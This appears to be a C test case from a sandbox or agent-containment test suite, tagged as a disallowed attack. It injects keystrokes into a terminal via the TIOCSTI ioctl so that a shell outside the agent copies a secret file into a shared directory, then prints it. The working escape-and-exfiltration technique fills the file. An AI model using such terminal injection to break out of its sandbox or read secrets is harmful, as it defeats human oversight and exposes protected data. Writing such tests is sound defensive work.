// tries: types into a terminal that a shell outside any agent reads from
// target: read
// who: root
// outside: yes
// allowed: no
// event: *ioctl?TIOCSTI*
// action: file_write

#include "attack.h"
#include <pty.h>
#include <sys/ioctl.h>
#include <termios.h>

enum { GIVEN_MILLISECONDS = 10000 };

#define LINE "cp " SECRET " free/given.new && mv free/given.new free/given\n"

static void outside(void)
{
	char name[64], byte;
	int master;
	pid_t child = STEP(forkpty(&master, name, NULL, NULL));

	if (!child) {
		execl("/bin/sh", "sh", NULL);
		_exit(1);
	}
	write_text("free/ready.new", name);
	STEP(rename("free/ready.new", "free/ready"));
	while (read(master, &byte, 1) == 1)
		;
}

int main(int argc, char **argv)
{
	char name[64] = "";
	int fd;

	begin(argc, argv);
	if (strncmp(variant, "outside", 7) == 0) {
		outside();
		return 0;
	}
	fd = STEP(open("free/ready", O_RDONLY));
	if (read(fd, name, sizeof(name) - 1) <= 0)
		broken("no terminal");
	fd = STEP(open(name, O_RDWR | O_NOCTTY));
	for (const char *byte = LINE; *byte; byte++)
		STEP(ioctl(fd, TIOCSTI, byte));
	for (int waited = 0; access("free/given", F_OK) && waited < GIVEN_MILLISECONDS; waited++)
		usleep(1000);
	print_file("free/given");
	done();
}
